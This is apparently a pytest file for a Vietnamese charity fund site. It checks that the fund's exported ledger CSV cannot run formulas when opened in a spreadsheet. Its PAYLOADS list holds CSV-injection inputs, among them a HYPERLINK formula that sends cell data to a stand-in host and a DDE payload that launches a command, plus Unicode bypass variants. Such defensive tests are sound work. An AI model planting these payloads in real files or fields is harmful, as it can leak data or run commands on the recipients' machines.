"""The fund's CSV opens in a spreadsheet as data: no officer's text runs as a formula."""

import csv
import io
from pathlib import Path

import pytest
import yaml

from creditsite.load.site import load_site_data
from creditsite.render.pages import generate, ledger_csv

# Formulas as OWASP lists them, and ways around a naive check.
PAYLOADS = [
    '=HYPERLINK("http://example.org/?x="&A1,"Bấm")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "＝1+1", "＋1", "\u200b=1+1", "\u00a0=1+1", "\ufeff@SUM(A1)",
]


def rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, str]]:
    """The ledger CSV after an officer typed a payload as each donor, purpose and reference."""
    from conftest import copy_project

    project = copy_project(tmp_path_factory.mktemp("csv") / "project")
    path = project / "plan_data/fund/2025.yml"
    ledger = yaml.safe_load(path.read_text(encoding="utf-8"))
    entries = [(e, "donor") for e in ledger["receipts"]] + [(e, "purpose") for e in ledger["spending"]]
    assert len(entries) >= len(PAYLOADS)
    for i, ((entry, field), payload) in enumerate(zip(entries, PAYLOADS)):
        entry[field] = {"vi": payload, "en": payload}
        entry["reference"] = f"{payload} #{i}"  # references are unique
    path.write_text(yaml.safe_dump(ledger, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return rows(ledger_csv(load_site_data(project)))


def test_every_payload_reached_the_csv(poisoned: list[dict[str, str]]) -> None:
    for column in ("text_vi", "text_en"):
        cells = [r[column] for r in poisoned]
        # as typed (texts are stored without leading blanks), behind one quote
        assert all("'" + payload.strip() in cells for payload in PAYLOADS), cells


@pytest.mark.parametrize("column", ["text_vi", "text_en", "reference"])
def test_no_text_cell_starts_a_formula(poisoned: list[dict[str, str]], column: str) -> None:
    for row in poisoned:
        cell = row[column]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "\u200b", "\u00a0", "\ufeff")), cell


def test_numbers_stay_numbers_and_plain_text_stays_as_typed(poisoned: list[dict[str, str]]) -> None:
    for row in poisoned:
        assert row["amount_vnd"].isdigit() and row["year"].isdigit() and row["date"][:4] == row["year"]
    data = load_site_data(Path(__file__).resolve().parent.parent)
    plain = rows(ledger_csv(data))
    typed = [e.donor.vi for y in data.ledger for e in sorted(y.receipts, key=lambda e: e.date)]
    assert [r["text_vi"] for r in plain if r["kind"] == "thu"] == typed  # nothing prefixed that needs no prefix
    assert sum(int(r["amount_vnd"]) for r in plain) == sum(y.total_receipts + y.total_spending for y in data.ledger)


def test_the_published_csv_is_the_neutralised_one() -> None:
    """generate() publishes exactly ledger_csv's text (quy-vi-nguoi-ngheo/so-quy.csv)."""
    import datetime as dt

    data = load_site_data(Path(__file__).resolve().parent.parent)
    [page] = [p for p in generate(data, dt.date(2026, 1, 1)) if p.path.endswith(".csv")]
    assert page.markdown == ledger_csv(data)
